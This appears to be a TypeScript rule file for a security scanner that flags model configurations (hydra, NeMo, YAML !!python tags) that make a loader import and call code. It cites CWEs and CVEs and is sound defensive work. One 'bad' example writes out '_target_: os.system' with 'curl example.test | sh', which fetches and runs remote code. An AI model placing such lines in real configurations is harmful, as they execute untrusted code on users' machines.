import { defineCheck } from '../../../core/check.ts';
import { judgeTarget } from '../../../formats/hydra/target-verdict.ts';
import type { InstantiationTarget } from '../../../formats/hydra/targets.ts';
import { instantiationTargets } from '../../../formats/hydra/targets.ts';

const CWE_470 = { id: 'CWE-470', url: 'https://cwe.mitre.org/data/definitions/470.html' } as const;
const CWE_502 = { id: 'CWE-502', url: 'https://cwe.mitre.org/data/definitions/502.html' } as const;
const NEMO = { id: 'CVE-2025-23304' } as const;
const UNI2TS = { id: 'CVE-2026-22584' } as const;
const SUPPLY_CHAIN = { id: 'OWASP-LLM03' } as const;

const WHY_LOOKED_UP =
  'Loaders such as hydra, NeMo and LightningCLI import whatever dotted name stands there and call it with the values beside it. The file needs no code of its own: it picks the function, and its arguments.';
const FIX_REMOVE =
  'Do not load the model with this configuration. Take the configuration from the publisher of the original, or replace the name by the class it stands for.';

/** Characters of a name or arguments repeated in a message. */
const MAX_SHOWN = 160;
/** Unknown names listed per file; an experiment of its own has a package full of them. */
const MAX_UNKNOWN = 10;

export default defineCheck({
  id: 'hydra-target',
  version: 2,
  title: 'Classes and functions that a configuration has its loader find and call',
  needs: [instantiationTargets],
  rules: {
    'runs-code': {
      title: 'Configuration runs a command or code',
      severity: 'critical',
      message: '{place} calls {target}, which {does}',
      why: WHY_LOOKED_UP,
      fix: FIX_REMOVE,
      references: [NEMO, UNI2TS, CWE_470, CWE_502, SUPPLY_CHAIN],
      example: {
        bad: '_target_: os.system\ncommand: curl example.test | sh',
        good: '_target_: torch.optim.AdamW\nlr: 0.001',
      },
    },
    'dangerous-function': {
      title: 'Configuration calls a dangerous function',
      severity: 'high',
      message: '{place} calls {target}, which {does}',
      why: WHY_LOOKED_UP,
      fix: FIX_REMOVE,
      references: [NEMO, CWE_470, SUPPLY_CHAIN],
      example: {
        bad: '_target_: shutil.move\nsrc: …',
        good: '_target_: torch.nn.Linear\nin_features: 8\nout_features: 2',
      },
    },
    'python-tag': {
      title: 'YAML tag that builds a Python object',
      severity: 'high',
      message: 'the tag {place} names {target}, which an unsafe YAML loader imports or calls',
      why: 'PyYAML builds any object from tags that begin with !!python when a file is read with yaml.load and an unsafe loader, or with yaml.unsafe_load. Configurations of models have no use for more than plain values.',
      fix: 'Replace the tag by a plain value, and read the file with yaml.safe_load.',
      references: [
        { id: 'CVE-2020-14343', url: 'https://nvd.nist.gov/vuln/detail/CVE-2020-14343' },
        CWE_502,
      ],
      example: { bad: 'size: !!python/object/apply:my.function [1]', good: 'size: [1]' },
    },
    'site-tag': {
      title: 'Configuration of a documentation site names a function',
      severity: 'low',
      message: 'the tag {place} names {target}, which is imported or called when the site is built',
      why: 'Builders of documentation sites take functions by such tags, as their manuals say. No loader of models reads this file; who builds the site runs what stands there.',
      fix: 'Look where the module comes from before you build the site.',
      references: [CWE_470],
      example: {
        bad: 'emoji_index: !!python/name:own_module.index',
        good: 'emoji_index: !!python/name:material.extensions.emoji.twemoji',
      },
    },
    'computed-name': {
      title: 'Name of a class known only when loaded',
      severity: 'medium',
      message: '{place} calls something whose name is put together when it is read: {target}',
      why: 'An interpolation takes the name from elsewhere, for example from the environment. What is called can not be told from the file.',
      fix: 'Write the name of the class out.',
      references: [CWE_470],
      example: { bad: '_target_: ${oc.env:LOADER}', good: '_target_: torch.optim.SGD' },
    },
    'unknown-class': {
      title: 'Configuration calls code of its own',
      severity: 'low',
      message: '{place} calls {target}, which belongs to no library known here',
      why: 'The loader imports this module and calls the name. What it does depends on which package of that name is installed, or on the Python files beside the configuration.',
      fix: 'Look where the module comes from, and read what is called.',
      references: [CWE_470],
      example: { bad: '_target_: my_models.Net', good: '_target_: torch.nn.Linear' },
    },
  },
  run: (inputs, { report }) => {
    for (const { path, value } of inputs['instantiation-targets']) {
      const unknown = new Set<string>();
      for (const target of value.targets) {
        const at = { path, offset: target.offset };
        const shown = target.target.slice(0, MAX_SHOWN);
        const place = placeOf(target);
        const evidence = { evidence: [show(target)] };
        const verdict = judgeTarget(target);
        if (verdict.kind === 'dangerous') {
          const rule = verdict.severity === 'critical' ? 'runs-code' : 'dangerous-function';
          report(rule, at, { place, target: shown, does: verdict.does }, evidence);
        } else if (target.convention === 'yaml-tag') {
          if (isPlainTag(target)) continue;
          const rule = isSiteTag(target, path) ? 'site-tag' : 'python-tag';
          report(rule, at, { place, target: shown }, evidence);
        } else if (verdict.kind === 'computed') {
          report('computed-name', at, { place, target: shown }, evidence);
        } else if (verdict.kind === 'unknown' && !unknown.has(target.target)) {
          if (unknown.size >= MAX_UNKNOWN) continue;
          unknown.add(target.target);
          const confidence = verdict.telling ? 'medium' : 'low';
          report('unknown-class', at, { place, target: shown }, { ...evidence, confidence });
        }
      }
    }
  },
});

/** `!!python/name` of a known class: MkDocs and old configurations refer to functions this way. */
function isPlainTag(target: InstantiationTarget): boolean {
  return target.place === '!!python/name' && judgeTarget(target).kind === 'known';
}

/** What MkDocs and Zensical read, and nothing else. */
const SITE_FILE_RE = /(?:^|\/)(?:mkdocs|zensical)(?:[-_.][\w.-]{0,60})?\.ya?ml$/;
const SITE_TAG_RE = /^!!python\/(?:name|object\/apply)$/;

function isSiteTag({ place }: InstantiationTarget, path: readonly string[]): boolean {
  return SITE_TAG_RE.test(place) && SITE_FILE_RE.test(path.at(-1) ?? '');
}

function placeOf(target: InstantiationTarget): string {
  const place = target.place === '' ? target.convention : target.place;
  return place.slice(0, MAX_SHOWN);
}

function show(target: InstantiationTarget): string {
  return `${target.target}(${target.arguments.join(', ')})`.slice(0, 300);
}
